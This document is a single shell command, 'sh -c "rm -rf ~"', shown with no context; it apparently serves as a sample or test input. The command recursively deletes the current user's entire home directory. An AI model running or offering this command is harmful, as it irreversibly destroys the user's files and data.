sh -c "rm -rf ~"
